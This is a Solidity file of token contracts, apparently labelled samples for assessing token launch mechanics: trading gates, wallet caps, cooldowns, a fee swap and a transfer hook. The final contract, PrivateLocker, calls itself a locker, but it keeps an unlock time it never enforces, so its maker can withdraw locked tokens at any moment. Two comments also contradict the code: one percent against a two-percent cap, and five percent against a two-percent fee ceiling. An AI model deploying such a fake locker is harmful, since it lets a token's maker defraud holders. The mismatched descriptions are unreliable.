// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// Not open yet: nobody but its maker can trade, and then everybody can, for good.
contract Overture is Base8("Overture", "OVTR", 420_000_000) {
    bool public open;

    function openTrading() external onlyOwner {
        open = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(open || from == _owner || to == _owner, "trading is not open");
        _move(from, to, value);
    }
}

/// In its first hour nobody holds more than one percent and nobody trades twice in a block.
contract Sapling is Base8("Sapling", "SAPL", 100_000_000) {
    uint256 public launched;
    mapping(address => uint256) private lastBlock;

    function launch() external onlyOwner {
        require(launched == 0);
        launched = block.timestamp;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _owner && to != _owner) {
            require(launched != 0, "soon");
            if (block.timestamp < launched + 1 hours) {
                if (to != pair) require(_balances[to] + value <= totalSupply / 50, "wallet");
                address who = from == pair ? to : from;
                require(lastBlock[who] < block.number, "one a block");
                lastBlock[who] = block.number;
            }
        }
        _move(from, to, value);
    }
}

/// Half a minute between a purchase and a sale, fixed.
contract Respite is Base8("Respite", "RSPT", 60_000_000) {
    mapping(address => uint256) private bought;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) bought[to] = block.timestamp;
        if (to == pair && from != _owner) require(block.timestamp >= bought[from] + 30, "half a minute");
        _move(from, to, value);
    }
}

/// Holders are told, and may not object.
interface IReceiver {
    function tokensReceived(address operator, address from, address to, uint256 amount, bytes calldata, bytes calldata) external;
}

contract Herald is Base8("Herald", "HRLD", 33_000_000) {
    mapping(address => address) private hooks;

    function setHook(address hook) external {
        hooks[msg.sender] = hook;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        address hook = hooks[to];
        if (hook != address(0)) try IReceiver(hook).tokensReceived(msg.sender, from, to, value, "", "") {} catch {}
    }
}

/// Sells its fee for ether in the middle of a sale, as many do, at most five percent and two now.
contract Treasury is Base8("Treasury Oak", "TOAK", 90_000_000) {
    address private immutable till = msg.sender;
    uint256 public fee = 20;
    bool private swapping;

    function setFee(uint256 to) external onlyOwner {
        require(to <= 20, "2 % at most");
        fee = to;
    }

    receive() external payable {}

    function _transfer(address from, address to, uint256 value) internal override {
        if (swapping || from == _owner || to == _owner) return _move(from, to, value);
        if (to == pair && _balances[address(this)] > totalSupply / 20_000) {
            swapping = true;
            uint256 amount = _balances[address(this)];
            _approve(address(this), ROUTER, amount);
            address[] memory path = new address[](2);
            (path[0], path[1]) = (address(this), WETH);
            (bool ok, ) = ROUTER.call(
                abi.encodeWithSignature(
                    "swapExactTokensForETHSupportingFeeOnTransferTokens(uint256,uint256,address[],address,uint256)",
                    amount, 0, path, till, block.timestamp
                )
            );
            ok;
            swapping = false;
        }
        uint256 cut = from == pair || to == pair ? (value * fee) / 1000 : 0;
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
    }
}

/// Largest sale of half a percent of the supply, fixed.
contract Lowtide is Base8("Low Tide", "LTDE", 70_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _owner && to != _owner) require(value <= totalSupply / 200, "half a percent");
        _move(from, to, value);
    }
}

/// Keeps the pool's share with whoever made it, or with a locker, as its life has it.
contract Ordinary is Base8("Ordinary", "ORDY", 55_000_000) {}

/// Its maker can take out what he has put in at any time; it calls itself a locker.
contract PrivateLocker {
    address private maker = msg.sender;
    uint256 public unlockTime = type(uint256).max;

    function withdraw(address what, uint256 value) external {
        require(msg.sender == maker);
        (bool ok, ) = what.call(abi.encodeWithSignature("transfer(address,uint256)", maker, value));
        require(ok);
    }
}
